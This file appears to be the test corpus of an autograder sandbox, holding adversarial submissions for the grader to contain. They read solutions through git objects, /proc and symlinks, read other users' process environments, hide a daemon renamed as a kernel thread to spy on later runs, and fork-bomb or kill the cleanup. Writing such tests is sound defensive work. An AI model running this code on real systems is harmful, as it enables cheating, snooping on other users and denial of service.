"""Escapes: reading the solutions from anywhere but solutions/, and outliving or stopping the
cleanup. The reading cases are a stub (every graded function raises NotImplementedError) plus
one cell that looks for working code and runs it: if anything readable held a solution, the stub
would earn points. The cleanup cases are the reference plus processes that fight the cleanup;
the test then checks that none of them is left; see build_corpus.py."""

from __future__ import annotations

from corpus_kit import DAEMON, Case, after_all, after_imports, assign, every_function, src, with_functions

# Defines steal(text, where): runs every definition of a graded function found in `text` (a
# notebook's JSON or source code, indented or not) that does more than raise; counts them.
STEAL = '''
import json
import os
import re
import textwrap

GRADED = ("parse_mnist", "softmax_loss", "softmax_regression_grad", "softmax_regression_epoch")
stolen_from = []


def steal(text, where):
    try:
        cells = json.loads(text).get("cells", [])
        sources = ["".join(c.get("source", "")) for c in cells if c.get("cell_type") == "code"]
    except (ValueError, AttributeError):
        sources = [text]
    for source in sources:
        for name in GRADED:
            pattern = rf"^([ \\t]*)def {name}\\(.*?\\n(?:\\1[ \\t]+.*\\n|[ \\t]*\\n)*"
            for found in re.finditer(pattern, source, re.M):
                code = textwrap.dedent(found.group(0))
                if "NotImplementedError" in code:
                    continue
                try:
                    exec("import gzip, struct\\nimport numpy as np\\n" + code, globals())
                    stolen_from.append(where)
                except Exception:
                    pass


def steal_file(path):
    try:
        with open(path, "rb") as f:
            steal(f.read(50_000_000).decode("utf-8", "replace"), path)
    except OSError:
        pass


def steal_tree(top):
    for folder, dirs, files in os.walk(top, onerror=lambda e: None):
        dirs[:] = [d for d in dirs if d not in (".venv", ".venv310", "site-packages")]
        for name in files:
            if name.endswith((".py", ".ipynb", ".json", ".txt", ".md")):
                steal_file(os.path.join(folder, name))


def report():
    where = sorted(set(stolen_from))
    print(f"STOLE {len(stolen_from)} functions from {where[:5]}" if where else "stole nothing")
'''

STUB = every_function("raise NotImplementedError")


def stub_and(*cells: str) -> list:
    return after_all(STEAL, *cells, "report()", base=with_functions(**STUB))


READING = [
    Case(
        "steal_from_corpus_tables",
        "reading",
        "a stub that runs the solutions embedded in the course's tests (the corpus tables)",
        lambda ctx: stub_and(
            """
            from dlhw.autograder.homeworks import course_root

            root = str(course_root())
            steal_tree(root + "/tests")
            for name in ("cases_attacks.py", "cases_broken.py", "cases_runaway.py", "corpus_kit.py"):
                steal_file(f"{root}/tests/corpus/{name}")
            """
        ),
    ),
    Case(
        "steal_from_git_history",
        "reading",
        "a stub that runs the reference from the repository's history: git show, every object",
        lambda ctx: stub_and(
            """
            import subprocess
            import zlib

            from dlhw.autograder.homeworks import course_root

            root = str(course_root())
            git = ["git", "-c", "safe.directory=*", "-C", root]
            for args in (["show", "HEAD:solutions/hw1_softmax/hw1_softmax.ipynb"],
                         ["cat-file", "--batch-all-objects", "--batch"]):
                try:
                    out = subprocess.run(git + args, capture_output=True, timeout=30).stdout
                    steal(out.decode("utf-8", "replace"), "git " + args[0])
                except (OSError, subprocess.TimeoutExpired):
                    pass
            gitdirs = [root + "/.git"]
            try:  # a worktree: .git is a file naming the repository
                with open(root + "/.git") as f:
                    gitdirs.append(f.read().split(":", 1)[1].strip() + "/../..")
            except OSError:
                pass
            for gitdir in gitdirs:
                for folder, dirs, files in os.walk(gitdir + "/objects", onerror=lambda e: None):
                    for name in files:
                        try:
                            with open(os.path.join(folder, name), "rb") as f:
                                steal(zlib.decompress(f.read()).decode("utf-8", "replace"), "git objects")
                        except (OSError, zlib.error):
                            pass
            """
        ),
    ),
    Case(
        "steal_via_package_paths",
        "reading",
        "a stub that reaches solutions/ through the dlhw namespace package and `..` from its modules",
        lambda ctx: stub_and(
            """
            import importlib

            import dlhw
            import dlhw.autograder
            from dlhw.autograder.homeworks import get_homework

            for name in ("dlhw.solutions.hw1_softmax.tests.test_hidden", "dlhw.solutions"):
                try:
                    module = importlib.import_module(name)
                    for path in [getattr(module, "__file__", None), *getattr(module, "__path__", [])]:
                        if path:
                            steal_tree(path) if os.path.isdir(path) else steal_file(path)
                except Exception:
                    pass
            for base in [*dlhw.__path__, dlhw.autograder.__path__[0] + "/.."]:
                steal_tree(os.path.join(base, "solutions"))
            try:
                steal_file(str(get_homework("hw1").master))
            except Exception:
                pass
            """
        ),
    ),
    Case(
        "steal_via_proc_and_links",
        "reading",
        "a stub that reads solutions/ through /proc/*/root and cwd, open files and its own symlinks",
        lambda ctx: stub_and(
            """
            from dlhw.autograder.homeworks import course_root

            root = str(course_root())
            hidden = "/solutions/hw1_softmax/hw1_softmax.ipynb"
            for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "1"]:
                for via in (f"/proc/{pid}/root{root}", f"/proc/{pid}/cwd"):
                    steal_file(via + hidden)
            import stat

            for fd in os.listdir("/proc/self/fd"):  # files left open for us (not our pipes)
                try:
                    if stat.S_ISREG(os.stat(f"/dev/fd/{fd}").st_mode):
                        steal_file(f"/dev/fd/{fd}")
                except OSError:
                    pass
            try:
                os.symlink(root + "/solutions", "solutions-link")
                steal_tree("solutions-link")
            except OSError:
                pass
            """
        ),
    ),
    Case(
        "steal_other_uploads_and_results",
        "reading",
        "a stub that runs code from other uploads and results: /tmp, /autograder, the course's out/",
        lambda ctx: stub_and(
            assign(OTHER=ctx.other_upload)
            + src(
                """
                from dlhw.autograder.homeworks import course_root

                steal_file(OTHER)
                steal_tree("/autograder")
                steal_tree(str(course_root()) + "/out")
                for top in ("/tmp", "/var/tmp", "/dev/shm"):  # the grader's folders: dlhw-*
                    for name in os.listdir(top):
                        if name.startswith("dlhw-"):
                            steal_tree(os.path.join(top, name))
                """
            )
        ),
    ),
    Case(
        "read_other_processes",
        "reading",
        "reads the command line and environment of every process that is not its own",
        lambda ctx: after_all(
            """
            import os

            mine = os.getuid()
            cmdlines = environs = 0
            try:
                pids = os.listdir("/proc")
            except OSError as exc:  # the file allow-list (Landlock) shows only its own entry
                print("/proc:", type(exc).__name__)
                pids = []
            for pid in filter(str.isdigit, pids):
                try:
                    with open(f"/proc/{pid}/status") as f:
                        uid = int(next(ln for ln in f if ln.startswith("Uid:")).split()[1])
                except (OSError, StopIteration):
                    continue
                if uid == mine:
                    continue
                for name in ("cmdline", "environ"):
                    try:
                        with open(f"/proc/{pid}/{name}", "rb") as f:
                            if f.read():
                                cmdlines += name == "cmdline"
                                environs += name == "environ"
                    except OSError:
                        pass
            print(f"other users' processes: {cmdlines} cmdlines, {environs} environs")
            """
        ),
    ),
]

# Starts `body` in a double-forked daemon (see DAEMON) that first hides: non-dumpable (its /proc
# folder then belongs to root), renamed, in a session of its own, in /.
HIDDEN = """
import ctypes


def hidden(body):
    def run():
        libc = ctypes.CDLL(None)
        libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
        libc.prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME
        os.chdir("/")
        body()

    daemon(run)
"""

OUTLIVING = [
    Case(
        "setsid_fork_chain",
        "cleanup",
        "a chain in which each process starts a new session, forks the next and exits at once",
        lambda ctx: after_all(
            """
            import os


            def link():
                while True:
                    os.setsid()
                    if os.fork():
                        os._exit(0)


            if os.fork() == 0:
                try:
                    link()
                finally:
                    os._exit(0)
            print("chain started")
            """
        ),
    ),
    Case(
        "stop_the_cleanup",
        "cleanup",
        "daemons SIGSTOP, then SIGKILL, every new process of their uid (the old cleanup helper)",
        lambda ctx: after_all(
            DAEMON,
            """
            def ours():
                mine, found = os.getuid(), set()
                for pid in filter(str.isdigit, os.listdir("/proc")):
                    try:
                        with open(f"/proc/{pid}/status") as f:
                            if int(next(ln for ln in f if ln.startswith("Uid:")).split()[1]) == mine:
                                found.add(int(pid))
                    except (OSError, StopIteration, ValueError):
                        pass
                return found


            def stopper():
                known = ours()
                while True:
                    for pid in ours() - known:
                        for sig in (19, 9):  # SIGSTOP, then SIGKILL
                            try:
                                os.kill(pid, sig)
                            except OSError:
                                pass
                    time.sleep(0.001)


            for _ in range(3):
                daemon(stopper)
            time.sleep(0.2)
            print("stoppers started")
            """,
        ),
    ),
    Case(
        "kill_the_cleanup_ring",
        "cleanup",
        "a ring of daemons that re-fork any peer that dies and SIGCONT whatever the cleanup stops",
        lambda ctx: after_all(
            DAEMON,
            """
            import signal


            def ring():
                signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # no zombies to wait for
                peers = set()
                while True:
                    for pid in list(peers):
                        try:
                            os.kill(pid, 0)
                        except OSError:
                            peers.discard(pid)
                    while len(peers) < 3:
                        try:
                            child = os.fork()
                        except OSError:
                            break
                        if child == 0:
                            peers.clear()
                            continue
                        peers.add(child)
                    try:
                        os.kill(-1, signal.SIGCONT)  # wake any peer the cleanup stopped
                    except OSError:
                        pass
                    time.sleep(0.01)


            daemon(ring)
            time.sleep(0.2)
            print("ring started")
            """,
        ),
    ),
    Case(
        "hidden_daemon_spies_later",
        "cleanup",
        "a hidden daemon (non-dumpable, renamed) sleeps, then copies later runs' uploads and cmdlines",
        lambda ctx: after_all(
            DAEMON,
            HIDDEN,
            """
            def spy():
                time.sleep(2)
                with open("/tmp/dlhw-corpus-spy", "a") as out:
                    for pid in filter(str.isdigit, os.listdir("/proc")):
                        try:
                            with open(f"/proc/{pid}/cmdline", "rb") as f:
                                out.write(repr(f.read()) + "\\n")
                        except OSError:
                            pass
                while True:
                    time.sleep(1)


            hidden(spy)
            print("spy hidden")
            """,
        ),
    ),
    Case(
        "change_process_groups",
        "cleanup",
        "children that move to process groups and sessions of their own and spin",
        lambda ctx: after_all(
            """
            import os

            moves = []
            for how in ("setpgid", "setsid", "grader's group"):
                if os.fork() == 0:
                    try:
                        if how == "setpgid":
                            os.setpgid(0, 0)
                        elif how == "setsid":
                            os.setsid()
                        else:
                            os.setpgid(0, os.getpgid(os.getppid()))
                    except OSError:
                        pass
                    while True:
                        pass
            print("children moved to groups of their own")
            """
        ),
    ),
    Case(
        "fork_when_the_worker_dies",
        "cleanup",
        "daemons that wait for the worker to die, then fork as fast as they can",
        lambda ctx: after_all(
            DAEMON,
            """
            worker = os.getpid()


            def watch():
                while True:
                    try:
                        os.kill(worker, 0)
                    except ProcessLookupError:
                        break
                    time.sleep(0.001)
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass


            for _ in range(4):
                daemon(watch)
            print("watchers started")
            """,
        ),
    ),
    Case(
        "spinner_army",
        "cleanup",
        "forty setsid() children spin from the first cell on; the run budget must still hold",
        lambda ctx: after_imports(
            src(
                """
                import os

                print("forty spinners")  # first: the cell may be stopped while its spinners run
                for _ in range(40):
                    if os.fork() == 0:
                        os.setsid()
                        while True:
                            pass
                """
            )
        ),
    ),
]

CASES = [*READING, *OUTLIVING]
